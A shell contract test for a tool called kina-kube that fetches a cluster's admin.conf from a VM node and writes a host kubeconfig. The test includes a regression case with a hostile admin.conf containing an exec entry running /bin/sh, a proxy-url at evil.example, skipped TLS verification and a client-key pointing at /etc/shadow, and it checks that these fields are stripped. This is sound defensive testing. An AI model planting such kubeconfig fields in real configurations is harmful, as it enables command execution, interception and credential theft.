# kina-kube fetch: a contract test against a scripted fake `kina-vm` put first
# on PATH (the real kina-vm is a separate tool): `kina-vm inspect NAME` prints a
# Machine record, `kina-vm cp NAME:/etc/kubernetes/admin.conf DEST` copies.
source "$KINA_CLI_LIB"
kina-kube pki init --cluster c1 >/dev/null 2>&1
P="$KINA_HOME/clusters/c1/pki"

# A kubeadm-style admin.conf, signed by the cluster CA.
kina-kube pki issue --cluster c1 --cn kubernetes-admin --org system:masters --out "$TEST_TMP/adm" --name admin >/dev/null 2>&1
b64() { base64 -w0 < "$1"; }
cat > "$TEST_TMP/admin.conf" <<YAML
apiVersion: v1
clusters:
- cluster:
    certificate-authority-data: $(b64 "$P/ca.crt")
    server: https://10.89.0.2:6443
  name: kubernetes
contexts:
- context:
    cluster: kubernetes
    user: kubernetes-admin
  name: kubernetes-admin@kubernetes
current-context: kubernetes-admin@kubernetes
kind: Config
preferences: {}
users:
- name: kubernetes-admin
  user:
    client-certificate-data: $(b64 "$TEST_TMP/adm/admin.crt")
    client-key-data: $(b64 "$TEST_TMP/adm/admin.key")
YAML

mkdir -p "$TEST_TMP/fakebin"
cat > "$TEST_TMP/fakebin/kina-vm" <<'SH'
#!/bin/sh
# Fake kina-vm: records its argv, answers from the directory above its own
# (kina-kube passes children only an allowlisted environment).
FAKE_DIR=$(dirname "$(dirname "$0")")
printf '%s\n' "$*" >> "$FAKE_DIR/calls"
case "$1" in
  inspect)
    [ -f "$FAKE_DIR/$2.json" ] || { echo "kina-vm: error: machine \"$2\": not found" >&2; exit 66; }
    cat "$FAKE_DIR/$2.json" ;;
  cp)
    [ -e "$FAKE_DIR/cp-fails" ] && { echo "kina-vm: error: agent: connection refused" >&2; exit 69; }
    # A node is trusted less than the host: fetch must cap what cp writes.
    [ "$2 $3" = "--max-bytes 16Mi" ] || { echo "kina-vm: cp without --max-bytes 16Mi: $*" >&2; exit 64; }
    case "$4" in *:/etc/kubernetes/admin.conf) cp "$FAKE_DIR/admin.conf" "$5" ;; *) exit 64 ;; esac ;;
  *) exit 64 ;;
esac
SH
chmod +x "$TEST_TMP/fakebin/kina-vm"
export PATH="$TEST_TMP/fakebin:$PATH"
cat > "$TEST_TMP/cp1.json" <<'JSON'
{"apiVersion":"kina/v1alpha1","kind":"Machine","name":"cp1","cluster":"c1","backend":"qemu","state":"running","ip":"10.89.0.2","ports":[{"hostIP":"127.0.0.1","hostPort":40022,"guestPort":22,"protocol":"tcp"},{"hostIP":"127.0.0.1","hostPort":41234,"guestPort":6443,"protocol":"tcp"}]}
JSON

expect_exit 0 kina-kube fetch --machine cp1 < /dev/null
rec=$OUT
assert_eq "$(cat "$TEST_TMP/calls")" "$(printf 'inspect cp1\ncp --max-bytes 16Mi cp1:/etc/kubernetes/admin.conf %s' "$(sed -n 2p "$TEST_TMP/calls" | cut -d' ' -f5)")"
F="$KINA_HOME/clusters/c1/admin.kubeconfig"
assert_eq "$(jq -c '{kind,cluster,user,groups,context,server,path,machine}' <<<"$rec")" \
  "{\"kind\":\"Kubeconfig\",\"cluster\":\"c1\",\"user\":\"kubernetes-admin\",\"groups\":[\"system:masters\"],\"context\":\"kina-c1\",\"server\":\"https://127.0.0.1:41234\",\"path\":\"$F\",\"machine\":\"cp1\"}"
assert_eq "$(jq_field "$rec" .notAfter)" "$(date -u -d "$(openssl x509 -in "$TEST_TMP/adm/admin.crt" -noout -enddate | cut -d= -f2)" +%Y-%m-%dT%H:%M:%S.000Z)"
assert_eq "$(stat -c %a "$F")" 600
v() { kubectl --kubeconfig "$F" config view --raw -o jsonpath="$1"; }
assert_eq "$(v '{.current-context}')" kina-c1
assert_eq "$(v '{.clusters[0].name} {.clusters[0].cluster.server}')" "kina-c1 https://127.0.0.1:41234"
assert_eq "$(v '{.contexts[0].name} {.contexts[0].context.cluster} {.contexts[0].context.user}')" "kina-c1 kina-c1 kubernetes-admin@kina-c1"
assert_eq "$(v '{.users[0].user.client-key-data}' | base64 -d)" "$(cat "$TEST_TMP/adm/admin.key")"
ls -a "$KINA_HOME/clusters/c1" | grep >/dev/null '^\.fetch' && fail "temporary directory left behind"
ok "fetch --machine (qemu: published port)"

# sign without --server now uses the fetched endpoint.
expect_exit 0 kina-kube sign --cluster c1 --user dev1
assert_eq "$(jq_field "$OUT" .server)" https://127.0.0.1:41234
ok "sign uses the fetched server"

# A Machine record on stdin (apple backend: the VM's own IP); other records are forwarded first.
: > "$TEST_TMP/calls"
printf '%s\n' '{"apiVersion":"kina/v1alpha1","kind":"Node","name":"cp1"}' \
  '{"apiVersion":"kina/v1alpha1","kind":"Machine","name":"cp9","cluster":"c2","backend":"apple","ip":"192.168.64.5","ports":[]}' > "$TEST_TMP/in"
expect_exit 0 kina-kube fetch < "$TEST_TMP/in"
assert_eq "$(head -1 <<<"$OUT")" '{"apiVersion":"kina/v1alpha1","kind":"Node","name":"cp1"}'
assert_eq "$(tail -1 <<<"$OUT" | jq -r '.cluster + " " + .server')" "c2 https://192.168.64.5:6443"
assert_eq "$(cut -d' ' -f1,4 "$TEST_TMP/calls")" "cp cp9:/etc/kubernetes/admin.conf"
# fetch | merge: the pipeline of the design.
expect_exit 0 sh -c "kina-kube fetch --machine cp1 < /dev/null | kina-kube merge"
assert_eq "$(kubectl config view -o jsonpath='{.clusters[0].cluster.server}')" https://127.0.0.1:41234
assert_eq "$(kubectl config current-context)" kina-c1
ok "Machine on stdin, fetch | merge"

# A wildcard or IPv6 host address.
jq -c '.name="cp3" | .ports[1].hostIP="0.0.0.0"' "$TEST_TMP/cp1.json" > "$TEST_TMP/cp3.json"
jq -c '.name="cp4" | .ports[1].hostIP="::1"' "$TEST_TMP/cp1.json" > "$TEST_TMP/cp4.json"
expect_exit 0 kina-kube fetch --machine cp3 < /dev/null
assert_eq "$(jq_field "$OUT" .server)" https://127.0.0.1:41234
expect_exit 0 kina-kube fetch --machine cp4 < /dev/null
assert_eq "$(jq_field "$OUT" .server)" "https://[::1]:41234"
kina-kube fetch --machine cp1 < /dev/null > /dev/null 2>&1
ok "host addresses"

# Failures: unknown machine, no API port, kina-vm cp failing, a broken admin.conf.
expect_exit 66 kina-kube fetch --machine ghost < /dev/null
assert_contains "$ERR" 'kina-kube: error: kina-vm inspect ghost: kina-vm: error: machine "ghost": not found'
jq -c '.name="cp2" | .ports=[.ports[0]]' "$TEST_TMP/cp1.json" > "$TEST_TMP/cp2.json"
expect_exit 65 kina-kube fetch --machine cp2 < /dev/null
assert_contains "$ERR" 'machine cp2: publishes no port for the API server (guest port 6443)'
before=$(sha256sum < "$F")
touch "$TEST_TMP/cp-fails"
expect_exit 69 kina-kube fetch --machine cp1 < /dev/null
rm "$TEST_TMP/cp-fails"
assert_contains "$ERR" 'copying /etc/kubernetes/admin.conf from cp1: kina-vm: error: agent: connection refused'
printf 'users: {\n' > "$TEST_TMP/admin.conf"
expect_exit 65 kina-kube fetch --machine cp1 < /dev/null
assert_contains "$ERR" 'reading YAML cp1:/etc/kubernetes/admin.conf'
assert_eq "$(sha256sum < "$F")" "$before" "admin.kubeconfig after failures"
expect_exit 64 kina-kube fetch < /dev/null
ok "failures"

# Regression: the node's admin.conf was copied whole, so a compromised node
# could make the host's kubectl run a command (user exec), go through a proxy,
# skip TLS verification or read host files. Only kubeadm's fields are taken.
cat > "$TEST_TMP/admin.conf" <<YAML
apiVersion: v1
kind: Config
clusters:
- name: kubernetes
  cluster:
    certificate-authority-data: $(b64 "$P/ca.crt")
    server: https://10.89.0.2:6443
    proxy-url: http://evil.example:3128
    insecure-skip-tls-verify: true
contexts:
- name: a@kubernetes
  context: {cluster: kubernetes, user: a}
current-context: a@kubernetes
users:
- name: a
  user:
    client-certificate-data: $(b64 "$TEST_TMP/adm/admin.crt")
    client-key-data: $(b64 "$TEST_TMP/adm/admin.key")
    exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: /bin/sh, args: [-c, "touch $TEST_TMP/pwned"]}
    client-key: /etc/shadow
YAML
expect_exit 0 kina-kube fetch --machine cp1 < /dev/null
assert_contains "$ERR" "kina-kube: warning: cp1:/etc/kubernetes/admin.conf: ignoring the cluster's \"proxy-url\", \"insecure-skip-tls-verify\""
assert_contains "$ERR" "ignoring the user's \"exec\", \"client-key\""
assert_eq "$(kubectl --kubeconfig "$F" config view --raw -o json | jq -c '[(.clusters[0].cluster|keys), (.users[0].user|keys)]')" \
  '[["certificate-authority-data","server"],["client-certificate-data","client-key-data"]]'
grep -E 'exec|proxy-url|insecure|shadow' "$F" && fail "a node's field reached the host kubeconfig"
# A user without an embedded certificate and key is refused, nothing written.
before=$(sha256sum < "$F")
sed -i '/client-key-data:/d' "$TEST_TMP/admin.conf"
expect_exit 65 kina-kube fetch --machine cp1 < /dev/null
assert_eq "$(tail -1 <<<"$ERR")" "kina-kube: error: reading cp1:/etc/kubernetes/admin.conf: the user has no client-key-data"
assert_eq "$(sha256sum < "$F")" "$before" "admin.kubeconfig after a refused fetch"
ok "only kubeadm's fields are taken from the node"

# What a killed fetch or sign left (a temporary directory holding admin.conf,
# temporaries of atomic writes holding client keys) is swept by the next run
# under the cluster lock; a live process's temporary directory is kept.
C="$KINA_HOME/clusters/c1"
dead=$(sh -c 'echo $$')
mkdir -p "$C/.fetch.$dead.AbC123" "$C/.fetch.$$.XyZ789"
echo key > "$C/.fetch.$dead.AbC123/admin.conf"
echo key > "$C/.admin.kubeconfig.tmp.QwErTy"
mkdir -p "$C/kubeconfigs"
echo key > "$C/kubeconfigs/.bob.kubeconfig.tmp.AsDfGh"
printf '    client-key-data: %s\n' "$(b64 "$TEST_TMP/adm/admin.key")" >> "$TEST_TMP/admin.conf"
expect_exit 0 kina-kube fetch --machine cp1 < /dev/null
[ ! -e "$C/.fetch.$dead.AbC123" ] || fail "a dead fetch's temporary directory was not swept"
[ -d "$C/.fetch.$$.XyZ789" ] || fail "a live process's temporary directory was removed"
[ ! -e "$C/.admin.kubeconfig.tmp.QwErTy" ] || fail "a stale admin.kubeconfig temporary was not swept"
expect_exit 0 kina-kube sign --cluster c1 --user bob --server https://127.0.0.1:6443
[ ! -e "$C/kubeconfigs/.bob.kubeconfig.tmp.AsDfGh" ] || fail "a stale kubeconfig temporary was not swept"
ok "temporaries left by killed runs are swept"
